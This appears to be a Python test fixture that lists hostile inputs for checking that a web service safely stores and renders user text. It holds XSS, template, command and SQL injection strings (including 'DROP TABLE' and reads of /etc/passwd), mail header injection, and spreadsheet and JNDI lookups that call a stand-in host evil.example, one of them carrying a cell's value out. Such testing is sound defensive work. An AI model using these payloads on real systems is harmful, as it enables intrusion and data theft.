"""Text that is code to something behind us: pages, mails, tables, logs, databases, templates."""

from tests.http.hostile.body import Stored, everywhere, raw, text

HTML = (
    "<svg onload=alert(1)>", "<img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="', "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=a>",
    "<style>@import'//evil.example'</style>", "<link rel=stylesheet href=//evil.example>",
    "<object data=x>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><s>000</s><img src=x onerror=y></template>",
    "<a href=javascript:alert(1)>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;", "\\u003cscript\\u003e",
    "<scr\u0000ipt>".replace("\u0000", ""), "＜script＞alert(1)＜/script＞", "<plaintext>", "<xmp>",
    "]]><script>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
    "{% import os %}", "{{''.__class__}}",
    "*{7*7}", "@(7*7)", "[[7*7]]", "%(name)s %s %n {0} {name}", "$(id)", "`id`", "; id", "| id",
    "&& id", "../../../etc/passwd",
)  # fmt: skip
MAIL = (
    "a\nBcc: victim@example.org", "a\r\nBcc: victim@example.org\r\n\r\nbody",
    "a\rBcc: victim@example.org",
    "a%0d%0aBcc: victim@example.org", "a\u2028Bcc: victim@example.org", "a\x0bBcc: v@example.org",
    "a\x85Bcc: v@example.org",
    "=?utf-8?q?a=0ABcc:_v=40example.org?=", "=?utf-8?b?YQ0KQmNjOiB2QGV4YW1wbGUub3Jn?=",
    "\r\n.\r\nMAIL FROM:<a@b.example>\r\n",
    "\n.\nQUIT\n", ".", "..", "From a@b.example Mon", "--boundary--",
    "Content-Type: text/html\n\n<b>", "a" * 998 + "\n",
    "<a@b.example>", '"Ada" <ada@b.example>', "ada@news.example, all@news.example",
    "\N{FULLWIDTH COMMERCIAL AT}b",
)  # fmt: skip
TABLES = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", "＝1+1",
    "=cmd|'/c calc'!A0",
    '=IMPORTXML("http://evil.example","//a")', '=HYPERLINK("http://evil.example?x="&A1)',
    '"=1+1', 'a,b"c\nd;e\tf',
)  # fmt: skip
LOGS = (
    "a\n2026-01-01 00:00:00 [error] forged", "\x1b[2J\x1b[1;1H", "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07x",
    "a\r\x1b[K", '{"event":"forged"}', "\u001b[31m", "${jndi:ldap://evil.example/a}", "%n%n%n",
    "\x9b31m",
)  # fmt: skip
SQL = (
    "'", '"', "''", "\\'", "';--", "' OR '1'='1", "') OR ('1'='1", "1; DROP TABLE report",
    "\x27 UNION SELECT 1",
    "$$;DROP TABLE report;$$", "E'\\\\'", ":name %(a)s ? $1 @a", "%_%", "\\", "\\\\", "*",
    "NEAR(a b)", '"a" OR b*',
    "a:b", "-a", "^a", "NOT", "AND", "a & | ! <-> b:*", "''::tsquery", "pg_sleep(10)",
    "\uff07 OR 1=1", "0x41", "/*", "*/",
)  # fmt: skip
KEYS = (
    '"__proto__": {"site": "x"}', '"constructor": {"prototype": {"a": 1}}',
    '"toString": 1, "valueOf": 2',
    '"hasOwnProperty": null', '"$where": "sleep(1000)"', '"$ne": null',
    '"model_config": {"extra": "allow"}',
    '"__init__": {"__globals__": {}}', '"reader_key": "x", "is_spam": true',
    '"state": "corrected"', '"token": "mine"',
    '"erratum_id": 1, "article_id": 1', '"recipient": "me@evil.example", "to": "me@evil.example"',
    '"created_at": "1970-01-01T00:00:00Z", "received_at": 0', '"proof": "found", "weight": 1000000',
    '"spam_reason": ""', '"editor": {"role": "owner"}, "is_admin": true', '"ip": "10.0.0.1"',
)  # fmt: skip

STORED: Stored = [
    *((f"HTML {number}", everywhere(hostile)) for number, hostile in enumerate(HTML)),
    *((f"mail {number}", everywhere(hostile)) for number, hostile in enumerate(MAIL)),
    *((f"address {number}", text(reader_email=hostile)) for number, hostile in enumerate(MAIL)),
    *((f"table {number}", everywhere(hostile)) for number, hostile in enumerate(TABLES)),
    *((f"log {number}", everywhere(hostile)) for number, hostile in enumerate(LOGS)),
    *((f"SQL {number}", everywhere(hostile)) for number, hostile in enumerate(SQL)),
    *((f"keys {number}", raw(f", {keys}")) for number, keys in enumerate(KEYS)),
]  # fmt: skip
